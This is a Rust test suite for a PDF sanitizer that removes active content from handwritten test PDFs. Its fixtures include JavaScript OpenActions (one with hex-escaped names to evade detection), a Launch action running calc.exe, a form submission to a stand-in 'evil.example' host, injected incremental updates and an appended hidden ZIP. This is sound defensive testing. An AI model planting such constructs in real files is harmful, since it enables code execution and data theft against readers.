//! The PDF plugin, natively, on small PDFs written by hand to hit each case.

use lopdf::{Document, Object};
use sekisho_plugin_sdk::{Action, ContentClass, Disposition, FailureKind, Finding, HyperlinkMode, Policy, RefuseAll};

/// A one-page PDF whose catalog and page get `catalog_extra` / `page_extra`
/// spliced in; objects 5+ come from `objects`.
fn pdf(catalog_extra: &str, page_extra: &str, objects: &[&str]) -> Vec<u8> {
    let mut body = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R {page_extra} >>"),
        "<< /Length 44 >>\nstream\nBT /F1 12 Tf 20 100 Td (Hello, Sekisho) Tj ET\nendstream".to_owned(),
    ];
    body.extend(objects.iter().map(|o| o.to_string()));
    let mut out = b"%PDF-1.7\n".to_vec();
    let mut offsets = Vec::new();
    for (i, object) in body.iter().enumerate() {
        offsets.push(out.len());
        out.extend(format!("{} 0 obj\n{object}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend(format!("xref\n0 {}\n0000000000 65535 f \n", body.len() + 1).as_bytes());
    for offset in offsets {
        out.extend(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend(format!("trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n", body.len() + 1).as_bytes());
    out
}

fn strict() -> Policy {
    Policy::uniform(Action::Sanitize)
}

fn run(input: &[u8], policy: &Policy) -> Result<(Vec<u8>, Vec<Finding>), sekisho_plugin_sdk::Failure> {
    let mut out = Vec::new();
    let rebuilt = sekisho_pdf::sanitize(input, &mut out, policy, &mut RefuseAll)?;
    Ok((out, rebuilt.findings))
}

/// Every name used as a dictionary key or value anywhere in the rebuilt file.
fn names(pdf: &[u8]) -> Vec<String> {
    fn walk(object: &Object, out: &mut Vec<String>) {
        match object {
            Object::Name(n) => out.push(String::from_utf8_lossy(n).into_owned()),
            Object::Array(items) => items.iter().for_each(|o| walk(o, out)),
            Object::Dictionary(d) => d.iter().for_each(|(k, v)| {
                out.push(String::from_utf8_lossy(k).into_owned());
                walk(v, out);
            }),
            Object::Stream(s) => walk(&Object::Dictionary(s.dict.clone()), out),
            _ => {}
        }
    }
    let doc = Document::load_mem(pdf).expect("the output loads");
    let mut out = Vec::new();
    doc.objects.values().for_each(|o| walk(o, &mut out));
    walk(&Object::Dictionary(doc.trailer.clone()), &mut out);
    out
}

fn has(findings: &[Finding], class: ContentClass) -> bool {
    findings.iter().any(|f| f.class == class)
}

#[test]
fn clean_pdf_keeps_its_page_and_text() {
    let (out, findings) = run(&pdf("", "", &[]), &strict()).unwrap();
    assert!(findings.is_empty(), "{findings:?}");
    let doc = Document::load_mem(&out).unwrap();
    assert_eq!(doc.get_pages().len(), 1);
    assert!(String::from_utf8_lossy(&out).contains("Hello, Sekisho") || doc.extract_text(&[1]).is_ok());
}

#[test]
fn open_action_javascript_is_removed_even_with_hex_escaped_names() {
    // /J#61vaScript is /JavaScript once the escape is decoded.
    let input = pdf(
        "/OpenAction 5 0 R /Names << /JavaScript 6 0 R >>",
        "",
        &[
            "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
            "<< /Names [(x) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >>",
        ],
    );
    let (out, findings) = run(&input, &strict()).unwrap();
    let names = names(&out);
    for banned in ["JS", "JavaScript", "OpenAction"] {
        assert!(!names.iter().any(|n| n == banned), "{banned} survived: {names:?}");
    }
    assert!(has(&findings, ContentClass::Scripts) && has(&findings, ContentClass::AutoActions));
}

#[test]
fn launch_and_submit_actions_and_aa_triggers_are_removed() {
    let input = pdf(
        "/AA << /WC 5 0 R >>",
        "/AA << /O << /S /Launch /F (calc.exe) >> >> /Annots [6 0 R]",
        &[
            "<< /S /SubmitForm /F (http://evil.example/) /Next << /S /ImportData /F (x.fdf) >> >>",
            "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>",
        ],
    );
    let (out, findings) = run(&input, &strict()).unwrap();
    let names = names(&out);
    for banned in ["AA", "Launch", "SubmitForm", "ImportData", "GoToR"] {
        assert!(!names.iter().any(|n| n == banned), "{banned} survived: {names:?}");
    }
    assert!(has(&findings, ContentClass::ExternalActions));
    // The link annotation itself stays, without its action.
    assert!(names.iter().any(|n| n == "Link"));
}

#[test]
fn uri_links_follow_the_hyperlink_mode() {
    let input = pdf(
        "",
        "/Annots [5 0 R]",
        &["<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.jp/) >> >>"],
    );
    let mut as_text = strict();
    as_text.hyperlink_mode = HyperlinkMode::KeepAsText;
    let (out, findings) = run(&input, &as_text).unwrap();
    assert!(!names(&out).iter().any(|n| n == "URI"));
    assert!(findings.iter().any(|f| f.class == ContentClass::Hyperlinks && f.detail.contains("example.jp")));
    let mut keep = strict();
    keep.hyperlink_mode = HyperlinkMode::Keep;
    let (out, _) = run(&input, &keep).unwrap();
    assert!(names(&out).iter().any(|n| n == "URI"));
}

#[test]
fn comments_and_multimedia_annotations_are_removed_links_stay() {
    let input = pdf(
        "",
        "/Annots [5 0 R 6 0 R 7 0 R]",
        &[
            "<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Contents (a comment) >>",
            "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>",
            "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /Dest [3 0 R /Fit] >>",
        ],
    );
    let (out, findings) = run(&input, &strict()).unwrap();
    let names = names(&out);
    assert!(!names.iter().any(|n| n == "RichMedia" || n == "Text"), "{names:?}");
    assert!(names.iter().any(|n| n == "Link"));
    assert!(has(&findings, ContentClass::Comments) && has(&findings, ContentClass::Multimedia));
    let keep_comments = strict().with(ContentClass::Comments, Action::Allow);
    let (out, _) = run(&input, &keep_comments).unwrap();
    assert!(crate::names(&out).iter().any(|n| n == "Text"));
}

#[test]
fn forms_xfa_and_metadata_follow_policy() {
    let input = pdf(
        "/AcroForm << /Fields [] /XFA 5 0 R >> /Metadata 6 0 R",
        "",
        &[
            "<< /Length 7 >>\nstream\n<xdp/>\nendstream",
            "<< /Type /Metadata /Subtype /XML /Length 6 >>\nstream\n<xmp/>\nendstream",
        ],
    );
    let (out, findings) = run(&input, &strict()).unwrap();
    let names = names(&out);
    assert!(!names.iter().any(|n| n == "AcroForm" || n == "XFA" || n == "Metadata"), "{names:?}");
    assert!(has(&findings, ContentClass::Forms) && has(&findings, ContentClass::Metadata));
    // Forms allowed: the AcroForm stays, the scriptable XFA still goes.
    let forms = strict().with(ContentClass::Forms, Action::Allow);
    let (out, _) = run(&input, &forms).unwrap();
    let names = crate::names(&out);
    assert!(names.iter().any(|n| n == "AcroForm") && !names.iter().any(|n| n == "XFA"));
}

#[test]
fn trailing_data_and_incremental_updates_are_folded_away() {
    let mut input = pdf("", "", &[]);
    let original_len = input.len();
    // An incremental update that adds JavaScript, then a ZIP appended after %%EOF.
    let update = format!(
        "5 0 obj\n<< /S /JavaScript /JS (evil) >>\nendobj\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\nxref\n0 1\n0000000000 65535 f \n1 1\n{:010} 00000 n \n5 1\n{:010} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev {} >>\nstartxref\n{}\n%%EOF\n",
        original_len + 50,
        original_len,
        original_len - 60,
        original_len + 200
    );
    input.extend(update.as_bytes());
    input.extend(b"PK\x03\x04 hidden payload");
    let (out, findings) = run(&input, &strict()).unwrap();
    let text = String::from_utf8_lossy(&out);
    assert_eq!(text.matches("%%EOF").count(), 1, "one revision");
    assert!(!text.contains("PK\x03\x04"));
    assert!(findings.iter().any(|f| f.location == "file end" && f.disposition == Disposition::Removed));
}

#[test]
fn blocked_class_refuses_the_file() {
    let input = pdf("/OpenAction << /S /JavaScript /JS (x) >>", "", &[]);
    let policy = strict().with(ContentClass::Scripts, Action::Block);
    let failure = run(&input, &policy).unwrap_err();
    assert_eq!(failure.kind, FailureKind::Blocked(ContentClass::Scripts));
}

#[test]
fn garbage_is_invalid_not_a_panic() {
    for input in [&b"%PDF-1.7\n"[..], b"%PDF-", b"not a pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF"] {
        let failure = run(input, &strict()).unwrap_err();
        assert_eq!(failure.kind, FailureKind::InvalidStructure, "{:?}", String::from_utf8_lossy(input));
    }
}

#[test]
fn output_is_idempotent() {
    let input = pdf(
        "/OpenAction 5 0 R",
        "/Annots [6 0 R]",
        &["<< /S /JavaScript /JS (x) >>", "<< /Type /Annot /Subtype /Text /Rect [0 0 1 1] >>"],
    );
    let (first, _) = run(&input, &strict()).unwrap();
    let (second, findings) = run(&first, &strict()).unwrap();
    assert_eq!(first, second);
    assert!(findings.is_empty(), "{findings:?}");
}

/// Regression (found by the fuzzer): a `/JS` key on a page made the whole
/// page count as a script action; the page must stay and only the key go.
#[test]
fn js_key_on_a_non_action_dictionary_removes_only_the_key() {
    let input = pdf("", "/JS (app.alert\\(1\\))", &[]);
    let (out, findings) = run(&input, &strict()).unwrap();
    assert_eq!(Document::load_mem(&out).unwrap().get_pages().len(), 1);
    assert!(!names(&out).iter().any(|n| n == "JS"));
    assert!(has(&findings, ContentClass::Scripts));
    let (again, _) = run(&out, &strict()).unwrap();
    assert_eq!(again, out);
}

/// Output uses a classic cross-reference table even when the input used an
/// xref stream, so no object number is taken by the xref itself.
#[test]
fn output_has_a_classic_xref_table() {
    let (out, _) = run(&pdf("", "", &[]), &strict()).unwrap();
    let text = String::from_utf8_lossy(&out);
    assert!(text.contains("\nxref\n") && !text.contains("/XRef"));
}

/// Regression (found by the fuzzer): numbering must be a fixpoint, also when
/// the input has gaps, null objects and dangling references.
#[test]
fn numbering_is_canonical_with_gaps_nulls_and_dangling_references() {
    let input = pdf("/Extra [9 0 R 6 0 R 5 0 R]", "", &["null", "<< /Next 12 0 R >>", "(unreferenced)"]);
    let (first, _) = run(&input, &strict()).unwrap();
    let (second, _) = run(&first, &strict()).unwrap();
    assert_eq!(first, second);
    let text = String::from_utf8_lossy(&first);
    assert!(!text.contains("unreferenced"), "unreachable objects are dropped");
}

/// Regression (found by the fuzzer): a reference to an object-stream object,
/// which the writer never writes, must not survive into the output.
#[test]
fn references_to_layout_objects_become_null() {
    let input = pdf("", "/Resources 5 0 R", &["<< /Type /ObjStm /N 0 /First 0 /Length 0 >>\nstream\n\nendstream"]);
    let (first, _) = run(&input, &strict()).unwrap();
    let (second, _) = run(&first, &strict()).unwrap();
    assert_eq!(first, second);
    assert!(!String::from_utf8_lossy(&first).contains("ObjStm"));
}

/// Regression (found by the fuzzer): an indirect object whose value is a
/// dangling reference becomes null, and so do the references to it.
#[test]
fn chains_of_dangling_references_settle_in_one_pass() {
    let input = pdf("", "/Annots 5 0 R", &["6 0 R", "7 0 R"]);
    let (first, _) = run(&input, &strict()).unwrap();
    let (second, _) = run(&first, &strict()).unwrap();
    assert_eq!(first, second);
}

/// Regression (found by the fuzzer): a catalog that also carries an action
/// type keeps its place and loses the action keys.
#[test]
fn typed_dictionary_with_an_action_type_keeps_its_place() {
    let input = pdf("/S /Launch /F (calc.exe)", "", &[]);
    let (first, findings) = run(&input, &strict()).unwrap();
    assert!(has(&findings, ContentClass::ExternalActions));
    assert!(!names(&first).iter().any(|n| n == "Launch"));
    let (second, _) = run(&first, &strict()).unwrap();
    assert_eq!(first, second);
}
